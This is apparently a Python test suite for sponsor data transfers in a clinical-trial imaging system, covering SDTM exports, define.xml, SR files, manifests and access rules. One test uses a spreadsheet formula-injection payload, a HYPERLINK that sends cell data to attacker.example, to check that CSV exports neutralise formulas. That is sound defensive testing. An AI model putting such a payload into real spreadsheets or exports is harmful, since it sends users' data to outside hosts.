"""Sponsor data transfers: a scripted trial's locked reads delivered as SDTM (transport v5 and CSV), define.xml,
plain tables, SRs and a manifest; reproducible for a cut-off; requested, followed and downloaded by sponsors only."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import subprocess
import zipfile
from datetime import date, timedelta
from pathlib import Path

import pydicom
import pyreadstat
import pytest
from lxml import etree

from ctims import safe_csv
from ctims.exceptions import ValidationFailed
from ctims.models import AuditEvent
from reads import results, sdtm, transfers
from reads.models import Transfer
from tests.conftest import PASSWORD
from tests.reads.flow import baseline_content, follow_up_content, ready, save_and_sign, target, task_of
from tests.snapshot import RowSnapshot
from trials.ingest import store
from trials.ingest.store import image_storage
from trials.ingest.subject_keys import subject_space
from trials.models import Membership
from trials.services import api_token_create

AGREE, ADJUDICATED, UNLOCKED = "ALPHA-SEO-001", "ALPHA-BUS-001", "ALPHA-SEO-002"
W6_DAY = 42


def _baseline(world, subject, readers):
    ready(world, "BL", subject=subject)
    for reader in readers:
        task = task_of(reader, "BL", subject)
        save_and_sign(reader, task, baseline_content(task))


def _scripted_trial(world) -> dict:
    """Three subjects read by rhea and ravi: one where they agree (with a lesion too small to measure at week 6),
    one the adjudicator settles at week 6 for the reader who called stable disease, one not locked at all."""
    both = (world.rhea, world.ravi)
    _baseline(world, AGREE, both)
    ready(world, "W6", day=W6_DAY, subject=AGREE)
    for reader in both:
        task = task_of(reader, "W6", AGREE)
        content = follow_up_content(task, "22.0", "11.0")
        content["targets"][1] = target(task, "T02", None, site="39607008", status="too_small")
        save_and_sign(reader, task, content)

    _baseline(world, ADJUDICATED, both)
    ready(world, "W6", day=W6_DAY, subject=ADJUDICATED)
    pr = task_of(world.rhea, "W6", ADJUDICATED)
    save_and_sign(world.rhea, pr, follow_up_content(pr, "16.1", "8.4"))  # PR
    sd = task_of(world.ravi, "W6", ADJUDICATED)
    save_and_sign(world.ravi, sd, follow_up_content(sd, "22.0", "12.0"))  # SD
    adjudication = task_of(world.ravi, "W6", ADJUDICATED).timepoint.adjudications.get()
    chosen = sd.assignment.slot
    results.adjudicate(
        actor=world.ada,
        task_id=adjudication.task.pk,
        choice=str(chosen),
        reason="T01 is measured across its true long axis by the reader who called SD.",
        password=PASSWORD,
        meaning_confirmed=True,
    )

    _baseline(world, UNLOCKED, (world.rhea,))  # one reader of two: nothing is locked
    return {"chosen": chosen, "other": 3 - chosen, "agree_slot_of_rhea": task_of(world.rhea, "BL").assignment.slot}


# Built through the services and the image store once per process, then replayed for each test (tests.snapshot).
scripted_trial = RowSnapshot(_scripted_trial, dict, dict, stores=("images", "quarantine", "transfers"))


def transfer_zip(transfer: Transfer) -> zipfile.ZipFile:
    transfer.refresh_from_db()
    assert transfer.state == Transfer.State.READY, transfer.error
    with transfers.transfer_storage().open(transfer.storage_key, "rb") as f:
        data = f.read()
    assert hashlib.sha256(data).hexdigest() == transfer.sha256
    return zipfile.ZipFile(io.BytesIO(data))


def read_xpt(archive: zipfile.ZipFile, name: str, tmp_path: Path):
    path = tmp_path / f"{name}.xpt"
    path.write_bytes(archive.read(f"sdtm/{name}.xpt"))
    frame, meta = pyreadstat.read_xport(str(path))
    return frame, meta


def rows_of(frame) -> list[dict]:
    return frame.to_dict(orient="records")


@pytest.fixture
def trial_read(world):
    return scripted_trial(world)


def test_the_sdtm_datasets_read_back_with_their_variables_types_lengths_and_values(world, trial_read, tmp_path):
    transfer = transfers.transfer_request(actor=world.sam, trial=world.trial)
    archive = transfer_zip(transfer)

    tu, tu_meta = read_xpt(archive, "tu", tmp_path)
    tr, tr_meta = read_xpt(archive, "tr", tmp_path)
    rs, rs_meta = read_xpt(archive, "rs", tmp_path)
    for meta, domain in ((tu_meta, sdtm.TU), (tr_meta, sdtm.TR), (rs_meta, sdtm.RS)):
        assert meta.table_name == domain.name and meta.file_label == domain.label
        assert meta.column_names == [v.name for v in domain.variables]
        assert meta.column_names_to_labels == {v.name: v.label for v in domain.variables}
        for v in domain.variables:
            assert meta.readstat_variable_types[v.name] == ("double" if v.numeric else "string"), v.name
    assert tr_meta.variable_storage_width["TRSEQ"] == 8
    assert tr_meta.variable_storage_width["TRTESTCD"] == len("TUMSTATE")
    assert tr_meta.variable_storage_width["TREVALID"] == len("RADIOLOGIST 1")

    # Only locked data: the subject with one reader's baseline is nowhere.
    for frame in (tu, tr, rs):
        assert set(frame["USUBJID"]) == {AGREE, ADJUDICATED}
        assert set(frame["STUDYID"]) == {"AC-1"}
    assert set(tu["TUEVAL"]) | set(tr["TREVAL"]) | set(rs["RSEVAL"]) == {"INDEPENDENT ASSESSOR"}

    # TU: each reader's lesions once, at baseline, linked to TR by TULNKID and carrying the SR's tracking UID.
    agree_tu = tu[tu["USUBJID"] == AGREE]
    assert sorted(zip(agree_tu["TUEVALID"], agree_tu["TULNKID"], agree_tu["TUORRES"], strict=True)) == [
        ("RADIOLOGIST 1", "NT01", "NON-TARGET"),
        ("RADIOLOGIST 1", "T01", "TARGET"),
        ("RADIOLOGIST 1", "T02", "TARGET"),
        ("RADIOLOGIST 2", "NT01", "NON-TARGET"),
        ("RADIOLOGIST 2", "T01", "TARGET"),
        ("RADIOLOGIST 2", "T02", "TARGET"),
    ]
    assert set(agree_tu["VISIT"]) == {"BASELINE"} and set(agree_tu["TUDY"]) == {1.0}
    assert set(agree_tu["TULOC"]) == {"LIVER", "LUNG", "PLEURA"}
    assert all(uid.startswith("2.25.") for uid in agree_tu["TUREFID"])
    assert list(tu["TUSEQ"][tu["USUBJID"] == AGREE]) == [1.0, 2.0, 3.0, 4.0, 5.0, 6.0]

    # TR: LDIAM for non-nodal targets, the sum, TUMSTATE for non-targets; too small is 5 mm; study day 43.
    w6 = tr[(tr["USUBJID"] == AGREE) & (tr["VISIT"] == "WEEK 6") & (tr["TREVALID"] == "RADIOLOGIST 1")]
    by_test = {(row["TRLNKID"], row["TRTESTCD"]): row for row in rows_of(w6)}
    assert by_test[("T01", "LDIAM")]["TRORRES"] == "22.0" and by_test[("T01", "LDIAM")]["TRSTRESN"] == 22.0
    too_small = by_test[("T02", "LDIAM")]
    assert (too_small["TRORRES"], too_small["TRSTRESC"], too_small["TRSTRESN"]) == ("TOO SMALL TO MEASURE", "5.0", 5.0)
    # Every length's TRSTRESC is the text of its TRSTRESN, with its tenth, as the measured ones are.
    lengths = tr[tr["TRTESTCD"].isin(["LDIAM", "LPERP", "SUMDIAM"]) & (tr["TRSTAT"] == "")]
    assert len(lengths) and all(
        row["TRSTRESC"] == f"{row['TRSTRESN']:.1f}" and row["TRSTRESU"] == "mm" for row in rows_of(lengths)
    )
    assert by_test[("NT01", "TUMSTATE")]["TRORRES"] == "PRESENT"
    assert by_test[("", "SUMDIAM")]["TRSTRESN"] == 27.0
    assert set(w6["TRDY"]) == {float(W6_DAY + 1)} and set(w6["VISITNUM"]) == {2.0}
    assert set(w6["TRDTC"]) == {""}  # real dates are not delivered by default
    assert set(w6["TRLNKGRP"]) == {"W6-R1"}

    # RS: each reader's responses at week 6; RSACPTFL marks the accepted assessment.
    overall = rs[rs["RSTESTCD"] == "OVRLRESP"]
    agreed = {row["RSEVALID"]: row for row in rows_of(overall[overall["USUBJID"] == AGREE])}
    assert agreed["RADIOLOGIST 1"]["RSACPTFL"] == "Y" and agreed["RADIOLOGIST 2"]["RSACPTFL"] == ""
    adjudicated = {row["RSEVALID"]: row for row in rows_of(overall[overall["USUBJID"] == ADJUDICATED])}
    chosen, other = f"RADIOLOGIST {trial_read['chosen']}", f"RADIOLOGIST {trial_read['other']}"
    assert set(adjudicated) == {chosen, other, "ADJUDICATOR"}
    assert (adjudicated[chosen]["RSORRES"], adjudicated[chosen]["RSACPTFL"]) == ("SD", "Y")
    assert (adjudicated[other]["RSORRES"], adjudicated[other]["RSACPTFL"]) == ("PR", "")
    assert adjudicated["ADJUDICATOR"]["RSORRES"] == "SD"
    # The adjudicator accepted one reader's whole case: that reader's records are the accepted ones at every visit,
    # with one set of lesion identities.
    adjudicated_tr = tr[tr["USUBJID"] == ADJUDICATED]
    accepted_tr = adjudicated_tr[adjudicated_tr["TRACPTFL"] == "Y"]
    assert set(accepted_tr["TREVALID"]) == {chosen} and set(accepted_tr["VISIT"]) == {"BASELINE", "WEEK 6"}
    assert len(accepted_tr) == len(adjudicated_tr[adjudicated_tr["TREVALID"] == chosen])
    adjudicated_tu = tu[(tu["USUBJID"] == ADJUDICATED) & (tu["TUACPTFL"] == "Y")]
    assert set(adjudicated_tu["TUEVALID"]) == {chosen}
    assert set(accepted_tr["TRREFID"]) - {""} == set(adjudicated_tu["TUREFID"])
    assert set(rs["RSTESTCD"]) == {"TRGRESP", "NTRGRESP", "NEWLPROG", "OVRLRESP", "BESTRESP"}
    assert set(rs["RSCAT"]) == {"RECIST 1.1"}
    best = {(r["USUBJID"], r["RSEVALID"]): r for r in rows_of(rs[rs["RSTESTCD"] == "BESTRESP"])}
    assert (best[(ADJUDICATED, chosen)]["RSORRES"], best[(ADJUDICATED, chosen)]["RSACPTFL"]) == ("SD", "Y")
    assert (best[(ADJUDICATED, other)]["RSORRES"], best[(ADJUDICATED, other)]["RSACPTFL"]) == ("PR", "")

    # The CSV copies hold the same records.
    tr_csv = list(csv.DictReader(io.StringIO(archive.read("sdtm/tr.csv").decode())))
    assert len(tr_csv) == len(tr) and list(tr_csv[0]) == tr_meta.column_names


def test_the_plain_tables_hold_both_readers_the_adjudicator_the_reason_and_the_endpoints(world, trial_read):
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    visits = list(csv.DictReader(io.StringIO(archive.read("tables/visits.csv").decode())))
    w6 = {row["evaluator"]: row for row in visits if row["subject"] == ADJUDICATED and row["visit"] == "W6"}
    chosen, other = f"Reader {trial_read['chosen']}", f"Reader {trial_read['other']}"
    assert set(w6) == {chosen, other, "Adjudicator"}
    assert w6[chosen]["accepted"] == "Y" and w6[other]["accepted"] == "N"
    assert w6["Adjudicator"]["overall_response"] == "SD" and w6["Adjudicator"]["accepted_reader"] == chosen
    assert w6[other]["adjudication_reason"].startswith("T01 is measured")
    assert w6[chosen]["study_day"] == str(W6_DAY + 1)
    # The baseline, locked by agreement before, follows the accepted case.
    bl = {row["evaluator"]: row for row in visits if row["subject"] == ADJUDICATED and row["visit"] == "BL"}
    assert bl[chosen]["accepted"] == "Y" and bl[other]["accepted"] == "N" and bl[chosen]["accepted_reader"] == chosen

    lesions = list(csv.DictReader(io.StringIO(archive.read("tables/lesions.csv").decode())))
    small = [r for r in lesions if r["subject"] == AGREE and r["visit"] == "W6" and r["lesion"] == "T02"]
    assert {(r["status"], r["counted_mm"]) for r in small} == {("too small", "5.0")}
    assert {r["subject"] for r in lesions} == {AGREE, ADJUDICATED}

    subjects = list(csv.DictReader(io.StringIO(archive.read("tables/subjects.csv").decode())))
    by = {(r["subject"], r["series"]): r for r in subjects}
    assert by[(ADJUDICATED, "Accepted result")]["best_overall_response"] == "SD"
    assert by[(ADJUDICATED, other)]["best_overall_response"] == "PR"
    assert by[(ADJUDICATED, "Accepted result")]["adjudication_reason"].startswith("T01 is measured")
    assert by[(AGREE, "Accepted result")]["progression_visit"] == ""


def test_every_locked_sr_is_in_the_zip_and_the_manifest_hashes_verify(world, trial_read, tmp_path):
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    names = archive.namelist()
    assert names == sorted(names)
    # Both readers' SRs of every locked visit, and the result SRs written when the adjudicator accepted a case.
    readers = [f"sr/{s}/{v}-R{n}.dcm" for s in (ADJUDICATED, AGREE) for v in ("BL", "W6") for n in (1, 2)]
    results = [f"sr/{ADJUDICATED}/{v}-result.dcm" for v in ("BL", "W6")]
    assert sorted(n for n in names if n.startswith("sr/")) == sorted(readers + results)
    result_sr = pydicom.dcmread(io.BytesIO(archive.read(f"sr/{ADJUDICATED}/W6-result.dcm")))
    assert result_sr.Modality == "SR"
    assert archive.read(f"sr/{AGREE}/BL-R1.dcm")[128:132] == b"DICM"
    manifest = json.loads(archive.read("manifest.json"))
    assert (manifest["transfer"], manifest["supersedes"], manifest["trial"]) == (1, None, "ALPHA")
    listed = {entry["path"]: entry for entry in manifest["files"]}
    assert set(listed) == set(names) - {"manifest.json", "manifest.sha256"}
    for path, entry in listed.items():
        data = archive.read(path)
        assert hashlib.sha256(data).hexdigest() == entry["sha256"] and len(data) == entry["bytes"], path
    sums = dict(line.split("  ")[::-1] for line in archive.read("manifest.sha256").decode().splitlines())
    assert sums["manifest.json"] == hashlib.sha256(archive.read("manifest.json")).hexdigest()
    # The unpacked zip verifies with the ordinary tool.
    archive.extractall(tmp_path)
    check = subprocess.run(["sha256sum", "--check", "--strict", "manifest.sha256"], cwd=tmp_path, capture_output=True)
    assert check.returncode == 0 and check.stdout.decode().count(": OK") == len(names) - 1, check.stdout
    assert manifest["changes"] == {
        AGREE: {
            "status": "new",
            "visits_added": ["BL", "W6"],
            "visits_changed": [],
            "visits_removed": [],
            "endpoints_changed": False,
        },
        ADJUDICATED: {
            "status": "new",
            "visits_added": ["BL", "W6"],
            "visits_changed": [],
            "visits_removed": [],
            "endpoints_changed": False,
        },
    }
    assert all(info.date_time == (1980, 1, 1, 0, 0, 0) for info in archive.infolist())


DEFINE_SCHEMA = Path(__import__("odmlib").__file__).parent / "schemas" / "define" / "2.0" / "define2-0-0.xsd"
NS = {"odm": "http://www.cdisc.org/ns/odm/v1.3", "def": "http://www.cdisc.org/ns/def/v2.0"}


def test_define_xml_validates_against_the_define_xml_2_0_schema_and_describes_the_datasets(world, trial_read, tmp_path):
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    document = etree.fromstring(archive.read("sdtm/define.xml"))
    # The published Define-XML 2.0 schema (over ODM 1.3.2), as the odmlib package ships it.
    schema = etree.XMLSchema(etree.parse(str(DEFINE_SCHEMA)))
    assert schema.validate(document), schema.error_log

    groups = document.xpath("//odm:ItemGroupDef", namespaces=NS)
    assert [g.get("Name") for g in groups] == ["TU", "TR", "RS"]
    for group in groups:
        name = group.get("Name")
        href = group.xpath("def:leaf/@xlink:href", namespaces=NS | {"xlink": "http://www.w3.org/1999/xlink"})
        assert href == [f"{name.lower()}.xpt"] and f"sdtm/{href[0]}" in archive.namelist()
        _frame, meta = read_xpt(archive, name.lower(), tmp_path)
        refs = group.xpath("odm:ItemRef/@ItemOID", namespaces=NS)
        items = [document.xpath(f"//odm:ItemDef[@OID='{oid}']", namespaces=NS)[0] for oid in refs]
        assert [i.get("Name") for i in items] == meta.column_names
        for item in items:
            if item.get("DataType") == "date":  # ISO 8601 text, no declared length
                assert item.get("Name").endswith("DTC")
                continue
            assert int(item.get("Length")) == meta.variable_storage_width[item.get("Name")], item.get("Name")
    testcodes = document.xpath("//odm:CodeList[@Name='TRTESTCD']/odm:CodeListItem/@CodedValue", namespaces=NS)
    assert testcodes == ["LDIAM", "LPERP", "SUMDIAM", "TUMSTATE"]
    flag = document.xpath("//odm:ItemDef[@Name='RSACPTFL']/odm:CodeListRef/@CodeListOID", namespaces=NS)
    assert flag == ["CL.NY"]


def test_a_second_transfer_with_nothing_changed_differs_only_in_number_and_time(world, trial_read):
    first = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    second_transfer = transfers.transfer_request(actor=world.alice, trial=world.trial)
    second = transfer_zip(second_transfer)
    assert first.namelist() == second.namelist()
    for name in first.namelist():
        if not name.startswith("manifest."):
            assert first.read(name) == second.read(name), name
    one, two = json.loads(first.read("manifest.json")), json.loads(second.read("manifest.json"))
    assert (two["transfer"], two["supersedes"]) == (2, 1)
    assert one["files"] == two["files"]
    assert {s: c["status"] for s, c in two["changes"].items()} == {AGREE: "unchanged", ADJUDICATED: "unchanged"}
    for key in ("transfer", "requested_at", "cutoff", "supersedes", "changes"):
        one.pop(key), two.pop(key)
    assert one == two
    assert second_transfer.supersedes.number == 1

    # A later lock shows up as what changed.
    task = task_of(world.ravi, "BL", UNLOCKED)
    save_and_sign(world.ravi, task, baseline_content(task))
    third = json.loads(
        transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial)).read("manifest.json")
    )
    assert third["changes"][UNLOCKED]["status"] == "new" and third["changes"][UNLOCKED]["visits_added"] == ["BL"]
    assert third["changes"][AGREE]["status"] == "unchanged"


def test_a_cutoff_before_anything_was_locked_delivers_empty_datasets(world, trial_read, tmp_path):
    archive = transfer_zip(
        transfers.transfer_request(actor=world.sam, trial=world.trial, cutoff=world.trial.created_at)
    )
    tr, meta = read_xpt(archive, "tr", tmp_path)
    assert len(tr) == 0 and meta.column_names == [v.name for v in sdtm.TR.variables]
    assert not [n for n in archive.namelist() if n.startswith("sr/")]


def test_real_scan_dates_are_delivered_only_when_the_trial_allows_them(world, trial_read, tmp_path):
    transfers.delivery_settings_set(actor=world.alice, trial=world.trial, real_dates=True)
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    rs, _meta = read_xpt(archive, "rs", tmp_path)
    # The scanner wrote 2026-03-02 (+42 days at week 6); de-identification shifted it; the transfer shifts it back.
    w6 = rs[(rs["USUBJID"] == AGREE) & (rs["VISIT"] == "WEEK 6")]
    assert set(w6["RSDTC"]) == {(date(2026, 3, 2) + timedelta(days=W6_DAY)).isoformat()}
    assert subject_space(world.trial, AGREE).date_offset_days(AGREE) != 0
    assert AuditEvent.objects.filter(action="delivery_settings.set", summary__real_dates=True).exists()


def test_the_transport_writer_refuses_what_version_5_cannot_hold():
    long_name = sdtm.Domain("TR", "Tumor Results", "", (), (sdtm.Variable("TRLONGNAME", "x", "text"),))
    assert "TR.TRLONGNAME: the variable name" in sdtm.check_dataset(sdtm.Dataset(long_name))[0]
    long_label = sdtm.Domain("TR", "Tumor Results", "", (), (sdtm.Variable("TRX", "x" * 41, "text"),))
    assert "over 40 characters" in sdtm.check_dataset(sdtm.Dataset(long_label))[0]
    values = sdtm.Domain("TR", "Tumor Results", "", (), (sdtm.Variable("TRX", "x", "text"),))
    dataset = sdtm.Dataset(values, [{"TRX": "a" * 201}, {"TRX": "주"}, {"TRX": "fine"}])
    assert sdtm.check_dataset(dataset) == [
        "TR.TRX row 1: the value is over 200 bytes",
        "TR.TRX row 2: the value is not ASCII",
    ]
    with pytest.raises(sdtm.DatasetError, match="row 2: the value is not ASCII"):
        sdtm.xport_bytes(dataset, stamped=world_time())


def world_time():
    from datetime import UTC, datetime

    return datetime(2026, 1, 1, tzinfo=UTC)


def test_a_transfer_that_cannot_be_written_fails_with_a_reason_and_keeps_no_file(world, trial_read):
    # An SDTM visit name written past its validator (the form and the API refuse it): transport v5 cannot carry it.
    world.trial.visits.filter(code="W6").update(sdtm_name="6주차")
    transfer = transfers.transfer_request(actor=world.sam, trial=world.trial)
    transfer.refresh_from_db()
    assert transfer.state == Transfer.State.FAILED
    assert "VISIT row" in transfer.error and "not ASCII" in transfer.error and "6주" not in transfer.error
    assert AuditEvent.objects.filter(action="transfer.fail", object_id=str(transfer.pk)).exists()
    assert not list((Path(transfers.transfer_storage().location)).rglob("*.zip"))


def test_a_write_cut_before_the_final_name_leaves_nothing_behind(world, trial_read, monkeypatch):
    def cut(key):
        raise OSError("power lost before the final name")

    monkeypatch.setitem(store.FAULT_HOOKS, "before_link", cut)  # the zip whole on disk, its name not yet given
    transfer = transfers.transfer_request(actor=world.sam, trial=world.trial)
    transfer.refresh_from_db()
    assert transfer.state == Transfer.State.FAILED and "OSError" in transfer.error
    assert list(Path(transfers.transfer_storage().location).rglob("*")) == [
        Path(transfers.transfer_storage().location) / "ALPHA"
    ]
    monkeypatch.undo()
    # Building it again (the task retried) completes it.
    transfers.transfer_build(transfer_id=transfer.pk)
    assert transfer_zip(transfer).namelist()


def _token(world, user) -> str:
    membership = Membership.objects.get(user=user, trial=world.trial)
    _t, secret = api_token_create(actor=user, membership=membership, name="transfers")
    return secret


def test_a_sponsor_token_requests_follows_and_downloads_a_transfer_and_each_download_is_audited(
    world, trial_read, client
):
    auth = {"HTTP_AUTHORIZATION": f"Bearer {_token(world, world.sam)}"}
    created = client.post("/api/trials/ALPHA/transfers/", {}, content_type="application/json", **auth)
    assert created.status_code == 202 and created.json()["number"] == 1
    detail = client.get("/api/trials/ALPHA/transfers/1/", **auth).json()
    assert detail["state"] == "ready" and detail["progress"] == 100 and len(detail["sha256"]) == 64
    assert detail["changes"][AGREE]["status"] == "new"
    for _n in range(2):
        response = client.get(detail["download_url"], **auth)
        assert response.status_code == 200 and response["Content-Type"] == "application/zip"
        data = b"".join(response.streaming_content)
        assert hashlib.sha256(data).hexdigest() == detail["sha256"] == response["X-Content-SHA256"]
    events = AuditEvent.objects.filter(action="transfer.download", trial_id=world.trial.pk)
    assert events.count() == 2 and {e.actor for e in events} == {world.sam}
    listing = client.get("/api/trials/ALPHA/transfers/", **auth).json()
    assert [t["number"] for t in listing["results"]] == [1]
    assert client.get("/api/trials/ALPHA/transfers/9/", **auth).status_code == 404
    future = client.post(
        "/api/trials/ALPHA/transfers/", {"cutoff": "2999-01-01T00:00:00Z"}, content_type="application/json", **auth
    )
    assert future.status_code == 400 and "future" in future.json()["error"]["message"]


def test_a_transfer_still_building_cannot_be_downloaded(world, client, monkeypatch):
    held = []
    monkeypatch.setattr(transfers, "enqueue_build", held.append)
    transfer = transfers.transfer_request(actor=world.sam, trial=world.trial)
    assert held == [transfer.pk]
    client.force_login(world.sam)
    page = client.get("/reads/trials/ALPHA/transfers/")
    assert page.status_code == 200 and page["Refresh"] == "2"
    assert client.get(f"/reads/trials/ALPHA/transfers/{transfer.number}/download/").status_code == 404
    api = client.get("/api/trials/ALPHA/transfers/1/download/")
    assert api.status_code == 409
    transfers.transfer_build(transfer_id=transfer.pk)
    page = client.get("/reads/trials/ALPHA/transfers/")
    assert "Refresh" not in page and b'data-state="ready"' in page.content


def test_nobody_but_sponsors_and_trial_admins_sees_transfers(world, api, client):
    transfer = transfers.transfer_request(actor=world.sam, trial=world.trial)
    for name in ("rhea", "ravi", "ada", "quinn", "cora", "bruno", "otto"):
        person = world.people[name]
        assert api.as_(person).get("/api/trials/ALPHA/transfers/").status_code == 404, name
        assert api.as_(person).get(f"/api/trials/ALPHA/transfers/{transfer.number}/download/").status_code == 404
        client.force_login(person)
        assert client.get(f"/reads/trials/ALPHA/transfers/{transfer.number}/download/").status_code == 404, name
    # A reader's own token is no way in either.
    auth = {"HTTP_AUTHORIZATION": f"Bearer {_token(world, world.rhea)}"}
    assert client.get("/api/trials/ALPHA/transfers/", **auth).status_code == 404
    # The trial admin may; only the trial admin sets the delivery settings.
    client.force_login(world.sam)
    client.post("/reads/trials/ALPHA/transfers/settings/", {"real_dates": "on"})
    assert not transfers.delivery_settings(world.trial).real_dates
    client.force_login(world.alice)
    assert client.get("/reads/trials/ALPHA/transfers/").status_code == 200
    client.post("/reads/trials/ALPHA/transfers/settings/", {"real_dates": "on"})
    assert transfers.delivery_settings(world.trial).real_dates


def test_the_transfers_page_speaks_korean(world, client, settings, monkeypatch):
    monkeypatch.setattr(transfers, "enqueue_build", lambda transfer_id: None)
    transfers.transfer_request(actor=world.sam, trial=world.trial)
    client.force_login(world.alice)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ko"
    page = client.get("/reads/trials/ALPHA/transfers/").content.decode()
    for text in ("데이터 전송", "전송 요청", "데이터 기준 시점", "대기 중", "전달 설정", "실제 촬영일 전달"):
        assert text in page, text
    assert "Request a transfer" not in page


def test_a_transfer_whose_task_was_lost_is_queued_again_and_completes(world, trial_read, monkeypatch):
    from datetime import UTC, datetime

    from django.core.management import call_command

    lost = []
    monkeypatch.setattr(transfers, "enqueue_build", lost.append)  # the broker restarts empty: the task is gone
    transfer = transfers.transfer_request(actor=world.sam, trial=world.trial)
    assert lost == [transfer.pk]
    assert transfers.transfers_resume() == []  # a fresh request is left to its task
    Transfer.objects.filter(pk=transfer.pk).update(requested_at=datetime(2026, 1, 1, tzinfo=UTC))
    monkeypatch.undo()
    out = io.StringIO()
    call_command("resume_transfers", stdout=out)
    assert "1 transfer build(s) queued again." in out.getvalue()
    assert transfer_zip(transfer).namelist()


def test_a_visit_waiting_for_its_adjudication_is_not_delivered(world, tmp_path):
    _baseline(world, AGREE, (world.rhea, world.ravi))
    ready(world, "W6", day=W6_DAY, subject=AGREE)
    for reader, (t1, t2) in ((world.rhea, ("16.1", "8.4")), (world.ravi, ("22.0", "12.0"))):
        task = task_of(reader, "W6", AGREE)
        save_and_sign(reader, task, follow_up_content(task, t1, t2))
    assert task_of(world.rhea, "W6", AGREE).timepoint.state == "in_adjudication"

    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    for name in ("tu", "tr", "rs"):
        frame, _meta = read_xpt(archive, name, tmp_path)
        assert set(frame["VISIT"]) <= {"BASELINE", ""}, name
    assert "W6" not in archive.read("tables/visits.csv").decode()
    assert "W6" not in archive.read("tables/lesions.csv").decode()
    assert not [n for n in archive.namelist() if "W6" in n]


def _runnable_cells(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run as a formula."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.startswith(safe_csv.FORMULA_START) and safe_csv.cell(c) != c]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_delivered_as_text(world, tmp_path):
    hostile = '=HYPERLINK("http://attacker.example/?d="&A2&B2,"Reader 1 measured the wrong slice")'
    world.trial.visits.filter(code="W6").update(label="@SUM(A1:A9)", sdtm_name='=HYPERLINK("http://a.example/")')
    _baseline(world, ADJUDICATED, (world.rhea, world.ravi))
    ready(world, "W6", day=W6_DAY, subject=ADJUDICATED)
    for reader, (t1, t2) in ((world.rhea, ("16.1", "8.4")), (world.ravi, ("22.0", "12.0"))):
        task = task_of(reader, "W6", ADJUDICATED)
        save_and_sign(reader, task, follow_up_content(task, t1, t2))
    adjudication = task_of(world.ravi, "W6", ADJUDICATED).timepoint.adjudications.get()
    results.adjudicate(
        actor=world.ada,
        task_id=adjudication.task.pk,
        choice="1",
        reason=hostile,
        password=PASSWORD,
        meaning_confirmed=True,
    )

    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    for name in [n for n in archive.namelist() if n.endswith(".csv")]:
        assert _runnable_cells(archive.read(name).decode()) == [], name
    visits = list(csv.DictReader(io.StringIO(archive.read("tables/visits.csv").decode())))
    assert {r["adjudication_reason"] for r in visits if r["visit"] == "W6"} == {"'" + hostile}
    assert {r["visit_label"] for r in visits if r["visit"] == "W6"} == {"'@SUM(A1:A9)"}
    subjects = list(csv.DictReader(io.StringIO(archive.read("tables/subjects.csv").decode())))
    assert "'" + hostile in {r["adjudication_reason"] for r in subjects}
    rs = list(csv.DictReader(io.StringIO(archive.read("sdtm/rs.csv").decode())))
    assert {r["VISIT"] for r in rs if r["VISITNUM"] != "1"} >= {'\'=HYPERLINK("HTTP://A.EXAMPLE/")'}
    # The transport files are data for SAS, not a spreadsheet: they keep the value as it is.
    frame, _meta = read_xpt(archive, "rs", tmp_path)
    assert '=HYPERLINK("HTTP://A.EXAMPLE/")' in set(frame["VISIT"])


def test_a_trial_not_yet_read_gets_a_transfer_of_empty_datasets(db, stores, on_commit_now, tmp_path):
    from tests.conftest import build_world

    world = build_world()  # no read design: nothing was ever read
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    for name, domain in (("tu", sdtm.TU), ("tr", sdtm.TR), ("rs", sdtm.RS)):
        frame, meta = read_xpt(archive, name, tmp_path)
        assert len(frame) == 0 and meta.column_names == [v.name for v in domain.variables]
    assert json.loads(archive.read("manifest.json"))["changes"] == {}


def test_a_reader_replaced_after_a_transfer_leaves_the_transfer_of_that_cutoff_as_it_was(world, trial_read):
    from reads.services import assignment_replace
    from tests.conftest import make_user
    from trials import services
    from trials.models import Role

    first = transfers.transfer_request(actor=world.sam, trial=world.trial)
    before = transfer_zip(first)
    # After the transfer, the reader whose reads stand for AGREE leaves and a newcomer reads the case again.
    leaving = task_of(world.rhea, "BL", AGREE).assignment
    rita = make_user("rita")
    services.membership_grant(actor=world.alice, trial=world.trial, user=rita, role=Role.READER)
    assignment_replace(actor=world.alice, assignment_id=leaving.pk, trial=world.trial, reader=rita)

    again = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial, cutoff=first.cutoff))
    assert again.namelist() == before.namelist()
    for name in before.namelist():
        if not name.startswith("manifest."):
            assert again.read(name) == before.read(name), name


def test_a_transfer_for_an_earlier_cutoff_is_compared_with_the_last_one_that_came_before_it(world, trial_read):
    late = transfers.transfer_request(actor=world.sam, trial=world.trial)
    transfer_zip(late)
    early = transfers.transfer_request(actor=world.sam, trial=world.trial, cutoff=world.trial.created_at)
    manifest = json.loads(transfer_zip(early).read("manifest.json"))
    # Nothing was withdrawn: the earlier cut-off simply came before the reads, and no transfer stood before it.
    assert manifest["supersedes"] is None and manifest["changes"] == {}
    early.refresh_from_db()
    assert early.supersedes is None

    again = transfers.transfer_request(actor=world.sam, trial=world.trial, cutoff=late.cutoff)
    manifest = json.loads(transfer_zip(again).read("manifest.json"))
    assert manifest["supersedes"] == late.number
    assert {c["status"] for c in manifest["changes"].values()} == {"unchanged"}


def test_a_visit_the_adjudicator_decides_is_locked_when_the_decision_is_signed(world, trial_read, tmp_path):
    from reads.models import Adjudication, TimepointResult

    adjudication = Adjudication.objects.get(subject__code=ADJUDICATED)
    decided = TimepointResult.objects.filter(adjudication=adjudication, supersedes__isnull=True)
    assert decided.exists() and {r.locked_at for r in decided} == {adjudication.decided_at}
    # So a transfer cut off at the decision holds every visit it decided, not some of them.
    archive = transfer_zip(
        transfers.transfer_request(actor=world.sam, trial=world.trial, cutoff=adjudication.decided_at)
    )
    rs, _meta = read_xpt(archive, "rs", tmp_path)
